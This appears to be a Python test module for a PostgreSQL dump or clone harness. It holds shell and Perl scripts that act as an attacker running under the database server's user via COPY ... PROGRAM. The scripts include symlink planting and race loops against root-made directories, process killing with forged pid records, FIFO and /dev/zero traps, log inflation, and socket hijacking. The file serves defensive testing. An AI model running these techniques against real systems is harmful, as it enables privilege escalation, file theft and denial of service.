"""Programs that a dump starts as the server's user: the attacker's hand, in sh and Perl.

They run in the data directory (COPY ... PROGRAM), note what they did in ``hand.txt`` there, and
loop until they succeeded or were denied, never for a time. Names in capitals and braces, as
``{SECRET}``, are those of `canaries.Canaries.words`.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Mapping

_PRELUDE = r"""
data=$PWD
log=$(readlink /proc/self/fd/2)
echo "hand: here as $(id -u)" >&2
exec 2>/dev/null
logs=$(dirname "$log")
drill=$(dirname "$logs")
note() { echo "$*" >>"$data/hand.txt"; }
# Whatever directory of a drill can be reached by a name.
places() {
    printf '%s\n' "$drill" "$data/.." "$drill/.." "$drill/../.."
    printf '%s\n' "$logs" "$drill/logs" "$data/../logs"
}
plant() { # link name
    if ln -sfn "$1" "$2" && [ "$(readlink "$2")" = "$1" ]; then note "planted $2"
    else note "denied $2"; fi
}
swap() { # directory: move it away and put one of our own in its place
    [ -d "$1" ] || return
    if mv "$1" "$1.away" && mkdir -m 777 "$1"; then note "swapped $1"; else note "denied $1"; fi
}
note "here as $(id -u)"
"""

STAYS = "cd /\nsetsid sleep 854 </dev/null >/dev/null 2>&1 &\nnote left behind\n"
"""Row 12: a process that stands nowhere near the run's directory."""

OWNS = r"""
mv "$data/../tablespaces" "$data/../tablespaces.away" && note "moved tablespaces"
plant {TREASURE} "$data/../tablespaces"
plant {TREASURE} "$drill/tablespaces"
"""
"""Row 1: a link in place of the directory in which root makes directories and gives them away."""

RACES = r"""
setsid perl -e '
    my $place = "../tablespaces";
    while (-d $place) {
        for my $number (0 .. 200) {
            my $name = "$place/dump-$number";
            next unless -d $name && !-l $name;
            rename($name, "$name.away") && symlink("{TREASURE}", $name);
        }
    }
' </dev/null >/dev/null 2>&1 &
note racing
"""
"""Row 1: links in place of the directories that root makes, walks and gives away, at once."""

APPENDS = r"""
swap "$logs"; swap "$data/../logs"; swap "$drill/logs"
places | while read -r place; do
    for name in load.log container.json initdb.log server-1.log server-2.log server-3.log psql.log
    do [ "$place/$name" = "$log" ] || plant {TARGET} "$place/$name"; done
done
"""
"""Row 3: links in place of the logs that root writes."""

KILLS = r"""
kill -9 {VICTIM} && note "killed the victim" || note "denied kill"
record='{"pid": {VICTIM}, "started": "{STARTED}"}'
places | while read -r place; do
    rm -f "$place/server.json"
    if echo "$record" >"$place/server.json"; then note "rewrote $place/server.json"
    else note "denied $place/server.json"; fi
    for name in keep overdue until run.lock; do
        echo 1 >"$place/$name" && note "wrote $place/$name" || note "denied $place/$name"
    done
done
{ echo {VICTIM}; tail -n +2 postmaster.pid; } >pid.new && mv pid.new postmaster.pid
"""
"""Row 4: records that name another process. And the copy would be kept."""

TELLS = r"""
places | while read -r place; do
    for name in innocent.log server-0.log zz.json; do plant {SECRET} "$place/$name"; done
    ln "{SECRET}" "$place/hard.log" && note "hard link" || note "denied hard link"
done
"""
"""Row 5: links among the logs that are saved beside the reports."""

BLOCKS = r"""
perl -e 'open(my $log, ">>", $ARGV[0]) and truncate($log, 1 << 40)' "$log" && note "grew the log"
places | while read -r place; do
    mkfifo "$place/fifo.log" && note "fifo $place" || note "denied $place/fifo.log"
    mkdir "$place/folder.log" && note "folder $place" || note "denied $place/folder.log"
    plant /dev/zero "$place/zero.log"
done
mkfifo "$data/../server.new" && mv "$data/../server.new" "$data/../server.json"
"""
"""Row 10: what no reader comes back from."""

LURES = r"""
socket=$(sed -n 5p postmaster.pid)/.s.PGSQL.$(sed -n 4p postmaster.pid)
(
    while [ ! -e loaded ]; do sleep 0.05; done
    mv "$socket" "$socket.away"; ln -s {SOCKET} "$socket"; touch acted
) </dev/null >/dev/null 2>&1 &
note will lure
"""
"""Row 8: a link in place of the socket, to a server of this machine."""

LINKS = r"""
ln -s {TREASURE} pg_tblspc/99999 && note "linked a tablespace"
ln -s {SECRET} base/link; ln -s {SECRET} secret.link; mkfifo base/fifo
ln -s /dev/zero base/zero
plant {SECRET} "$logs/innocent.log"
"""
"""Clones: links and FIFOs in the data directory of the server that a clone is taken of."""

STOPS = r"""
(
    trap '' HUP TERM
    while [ -d /proc/$PPID ] && [ ! -e loaded ]; do sleep 0.05; done
    kill -STOP "$(head -n 1 postmaster.pid)"
    touch acted
) </dev/null >/dev/null 2>&1 &
note will stop
"""
"""Row 8: the postmaster stands still once the dump is loaded."""

SILENCES = r"""
socket=$(sed -n 5p postmaster.pid)/.s.PGSQL.$(sed -n 4p postmaster.pid)
SOCKET=$socket setsid perl -MSocket -e '
    while (!-e "loaded") { select(undef, undef, undef, 0.05) }
    rename($ENV{SOCKET}, "$ENV{SOCKET}.away");
    socket(my $mute, AF_UNIX, SOCK_STREAM, 0); bind($mute, pack_sockaddr_un($ENV{SOCKET}));
    chmod(0700, $ENV{SOCKET}); listen($mute, 100);
    open(my $acted, ">", "acted");
    while (-e "loaded") { select(undef, undef, undef, 0.5) }
' </dev/null >/dev/null 2>&1 &
note will be silent
"""
"""Row 8: a socket that takes connections and never answers."""

LOADED = "touch loaded\nwhile [ ! -e acted ]; do sleep 0.05; done\n"
"""Tells `STOPS`, `SILENCES` and `LURES` that everything is loaded, and waits until they acted."""

CONTROLS = r"""
mkdir -p "$data/ext/extension"
ln -s {SECRET} "$data/ext/extension/stolen.control"
mkfifo "$data/ext/extension/waits.control"
note "control files"
"""
"""CREATE EXTENSION: control files that are a link and a FIFO."""


def prelude_and(script: str, words: Mapping[str, str]) -> str:
    """Return a whole hand, for the shell."""
    text = _PRELUDE + script
    for name, value in words.items():
        text = text.replace("{" + name + "}", value)
    return text


def started(script: str, words: Mapping[str, str]) -> str:
    """Return the SQL that runs a hand to its end; what it starts in the background goes on."""
    return (
        "create temporary table hand_said (line text);\n"
        f"copy hand_said from program $hand${prelude_and(script, words)}$hand$;\n"
        "drop table hand_said;\n"
    )
